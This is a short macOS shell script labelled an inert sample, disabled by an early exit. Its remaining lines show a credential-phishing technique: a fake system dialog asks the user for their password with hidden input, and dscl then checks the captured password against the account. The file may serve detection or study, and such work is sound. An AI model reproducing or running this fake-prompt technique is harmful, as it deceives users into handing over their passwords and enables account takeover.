#!/bin/sh
exit 0 # inert sample
p=$(osascript -e 'display dialog "macOS needs to update settings. Enter your password" default answer "" with icon caution with hidden answer')
dscl . -authonly "$USER" "$p"
